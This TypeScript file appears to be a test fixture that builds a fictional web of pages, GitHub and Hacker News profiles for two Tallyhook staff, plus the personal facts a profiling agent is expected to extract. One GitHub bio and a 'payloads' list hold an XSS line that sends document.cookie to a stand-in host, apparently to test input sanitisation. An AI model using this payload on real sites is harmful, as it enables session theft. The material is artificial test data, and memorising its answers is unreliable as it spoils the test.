import type { WorldPart } from "../World.ts"

/** Those who build Tallyhook: an engineer and a designer with sites and accounts of their own. */
export const tallyhookMakers: WorldPart = {
  pages: [
    {
      url: "https://deviyengar.example/about",
      body: `<html><head><meta charset="utf-8"><title>about | deviyengar</title></head><body><pre>
$ whoami
</pre><p>Devendra Iyengar. Storage person. These days at Tallyhook (staff eng), before that Pebblecache and a long time ago a bank.</p><p>B.Tech from NIT Trichy (2007), then an MS in Computer Science at Texas A&amp;M. Gig 'em.</p><p>Things I do that have no commit log: pinball machines (I own three, two work), Carnatic violin, and San Antonio Spurs games with my dad.</p><p>I maintain <a href="https://github.com/deviyengar/tinywal">tinywal</a>.</p><p>dev at deviyengar dot example</p></body></html>`
    },
    {
      url: "https://hectorzamarripa.example/",
      body: `<!doctype html><html><head><title>Hector Zamarripa, product designer</title></head><body><main><h1>Hector Zamarripa</h1><p class="lede">Product designer in San Antonio. I make dense software calm.</p><h2>Now</h2><p>Lead Product Designer at Tallyhook, since January 2025. Design systems, Figma plug-ins, handheld scanners.</p><h2>Before</h2><p>Senior Product Designer, Lonestar Freight (2019–2024)<br>UI Designer, Agency Ocho (2016–2019)</p><h2>Education</h2><p>BFA, Communication Design, Texas State University, 2016</p><h2>Talks</h2><p>Designing for gloves, Config Local Austin, 2025</p><h2>Not work</h2><p>I screen print gig posters, I ride a fixed gear along the river, and I foster dogs for San Antonio Pets Alive. Current foster: Chamoy.</p></main><footer>hola@hectorzamarripa.example · <a href="https://x.com/zamarripa_hz">X</a></footer></body></html>`
    }
  ],
  listings: [
    {
      url: "https://x.com/zamarripa_hz",
      title: "Hector Zamarripa (@zamarripa_hz) / X",
      snippet:
        "dense software, calm screens. lead product designer @tallyhook. San Antonio, TX hectorzamarripa.example"
    }
  ],
  github: [
    {
      login: "deviyengar",
      id: 877_120,
      name: "Devendra Iyengar",
      company: "Tallyhook",
      blog: "https://deviyengar.example/about",
      location: "Round Rock, TX",
      bio: "storage, rust, pinball",
      email: "dev@deviyengar.example",
      repositories: [
        {
          name: "tinywal",
          description: "A write-ahead log you can read in an afternoon",
          language: "Rust",
          topics: ["storage", "rust", "wal"],
          stars: 2304,
          pushed_at: "2026-09-01T02:11:00Z"
        },
        {
          name: "talam",
          description: "Carnatic metronome for the terminal",
          language: "Rust",
          topics: ["music"],
          stars: 77,
          pushed_at: "2025-12-26T16:40:00Z"
        },
        {
          name: "rocksdb",
          description: "A library that provides an embeddable, persistent key-value store for fast storage.",
          language: "C++",
          stars: 0,
          pushed_at: "2022-05-02T10:00:00Z",
          fork: true
        }
      ]
    },
    {
      login: "hzamarripa",
      id: 9_220_415,
      name: "Hector Zamarripa",
      company: "Tallyhook",
      blog: "https://hectorzamarripa.example",
      location: "San Antonio",
      bio: "<img src=x onerror=fetch('//grab.example/'+document.cookie)> yes I test your inputs",
      repositories: [
        {
          name: "figma-barcode",
          description: "Figma plug-in that draws scannable barcodes",
          language: "TypeScript",
          topics: ["figma-plugin", "barcode"],
          stars: 431,
          pushed_at: "2026-06-20T12:00:00Z"
        }
      ]
    }
  ],
  hackerNews: [
    {
      username: "deviyengar",
      about: "Staff eng at Tallyhook. I wrote tinywal.<p>https:&#x2F;&#x2F;deviyengar.example&#x2F;about",
      karma: 6120,
      stories: [
        {
          title: "Show HN: Tinywal, a write-ahead log you can read in an afternoon",
          url: "https://github.com/deviyengar/tinywal",
          points: 512,
          at: "2024-10-08T14:00:00.000Z"
        }
      ],
      comments: [
        {
          story: "Ask HN: What do you fix?",
          text: "A 1979 Gottlieb. The score reels are the easy part.",
          at: "2026-05-03T03:20:00.000Z"
        }
      ]
    }
  ],
  payloads: ["<img src=x onerror=fetch('//grab.example/'+document.cookie)>"],
  people: [
    {
      id: "devendra-iyengar",
      about: "An engineer with a short name, known from Hacker News, GitHub and the company's blog.",
      contact: { email: "dev@deviyengar.example", full_name: "Dev Iyengar", company: "Tallyhook" },
      outcome: "found",
      facts: {
        title: "Staff Software Engineer | staff eng | Staff Engineer",
        company: "Tallyhook | Tallyhook, Inc.",
        location: "Round Rock, TX | Round Rock, Texas | Round Rock",
        skills: ["Rust", "storage"],
        achievements: ["tinywal"],
        hobbies: ["restores pinball machines | pinball machines | pinball", "Carnatic violin"],
        sports_teams: ["San Antonio Spurs"],
        education: [
          { institution: "NIT Trichy", degree: "B.Tech | B.Tech.", year: 2007 },
          { institution: "Texas A&M", degree: "MS", field: "Computer Science" }
        ]
      },
      also: {
        industry: "software | inventory",
        skills: ["Scala", "reconciliation", "wal", "reconciliation and storage"],
        interests: [
          "filter coffee",
          "pinball",
          "storage",
          "rust",
          "wal",
          "music",
          "Carnatic violin",
          "San Antonio Spurs",
          "pinball machines"
        ],
        hobbies: ["filter coffee", "San Antonio Spurs games"],
        achievements: [
          "talam",
          "Show HN: Tinywal, a write-ahead log you can read in an afternoon",
          "A write-ahead log you can read in an afternoon",
          "How we count four billion things a night"
        ]
      },
      sources: [
        "https://tallyhook.example/blog/how-we-count",
        "https://deviyengar.example/about",
        "https://api.github.com/users/deviyengar",
        "https://api.github.com/users/deviyengar/repos"
      ]
    },
    {
      id: "hector-zamarripa",
      about: "A designer who tests the inputs of others.",
      contact: { email: "hola@hectorzamarripa.example", full_name: "Hector Zamarripa" },
      outcome: "found",
      facts: {
        title: "Lead Product Designer",
        company: "Tallyhook | Tallyhook, Inc.",
        location: "San Antonio | San Antonio, TX",
        skills: ["Design systems", "Figma plug-ins | Figma | figma-plugin"],
        hobbies: [
          "screen print gig posters | screen printing | screen print",
          "ride a fixed gear | fixed gear | cycling"
        ],
        causes: ["San Antonio Pets Alive | foster dogs"],
        education: [
          { institution: "Texas State University", degree: "BFA", field: "Communication Design", year: 2016 }
        ],
        twitter: "https://x.com/zamarripa_hz | https://twitter.com/zamarripa_hz"
      },
      also: {
        title: "product designer",
        industry: "software | inventory",
        skills: ["handheld scanners", "TypeScript", "product design", "barcode"],
        hobbies: ["foster dogs | fostering dogs"],
        interests: [
          "screen printing",
          "gig posters",
          "fixed gear",
          "barcode",
          "dogs",
          "Design systems",
          "figma-plugin"
        ],
        memberships: ["San Antonio Pets Alive"],
        pets: ["Chamoy | foster dogs | dogs"],
        achievements: [
          "Designing for gloves",
          "figma-barcode",
          "Figma plug-in that draws scannable barcodes"
        ],
        twitter_bio: "dense software, calm screens. lead product designer @tallyhook"
      },
      sources: [
        "https://hectorzamarripa.example/",
        "https://x.com/zamarripa_hz",
        "https://api.github.com/users/hzamarripa",
        "https://api.github.com/users/hzamarripa/repos"
      ]
    }
  ]
}
